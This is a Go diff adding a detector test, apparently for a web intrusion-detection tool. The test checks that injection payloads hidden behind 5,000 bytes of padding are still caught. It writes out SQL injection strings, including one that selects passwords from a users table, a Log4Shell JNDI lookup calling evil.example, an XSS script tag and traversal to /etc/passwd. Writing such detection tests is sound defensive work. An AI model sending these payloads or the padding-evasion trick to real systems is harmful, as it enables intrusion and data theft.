@@ -669,3 +669,42 @@ func TestRareUserAgentFamily(t *testing.T) {
 		t.Errorf("early client without warm-up: %s", event.SeverityName(a.Severity))
 	}
 }
+
+// TestInjectionPastPadding (issue 10 item 18): a payload behind 5,000
+// bytes of padding — in another parameter, in the same one, or in the
+// user agent — is found, and the padding itself is reported; a long
+// benign query is not.
+func TestInjectionPastPadding(t *testing.T) {
+	pad := strings.Repeat("A", 5000)
+	words := strings.Repeat("shoes+", 1200) // 7,200 bytes of a real search, no run of one byte
+	var s scenario
+	s.background(t0, 30*time.Minute, 10)
+	cases := []struct {
+		ip, class string
+		r         req
+	}{
+		{"203.0.113.30", "sql", req{target: "/x?pad=" + pad + "&id=1%27%20OR%201=1--", ua: browser}},
+		{"203.0.113.31", "jndi", req{target: "/", ua: pad + "${jndi:ldap://evil.example/a}"}},
+		{"203.0.113.32", "xss", req{target: "/s?q=" + pad + "%3Cscript%3Ealert(1)%3C/script%3E", ua: browser}},
+		{"203.0.113.33", "traversal", req{target: "/dl?pad=" + pad + "&file=../../../../etc/passwd", ua: browser}},
+		// Many ordinary parameters before the payload: no padding, but
+		// past the first 4 KiB.
+		{"203.0.113.34", "sql", req{target: "/x?" + strings.Repeat("a=bcdefgh&", 600) + "id=1%27%20UNION%20SELECT%20password%20FROM%20users--", ua: browser}},
+	}
+	for i, c := range cases {
+		s.add(t0.Add(time.Duration(i+1)*time.Minute), c.ip, c.r)
+	}
+	s.add(t0.Add(9*time.Minute), "203.0.113.39", req{target: "/search?q=" + words, ua: browser})
+	as := run(t, s.evs, "web.injection", nil)
+	for _, c := range cases {
+		a := one(t, as, "web.injection", c.ip)
+		cls := a.Evidence["classes"].(map[string]int32)
+		if cls[c.class] != 1 {
+			t.Errorf("%s: classes %v, want %s: %s", c.ip, cls, c.class, a.Description)
+		}
+		if padded := cls["padding"] == 1; padded != (c.ip != "203.0.113.34") {
+			t.Errorf("%s: padding reported = %v: %v", c.ip, padded, cls)
+		}
+	}
+	none(t, as, "", "203.0.113.39", event.SeverityLow)
+}
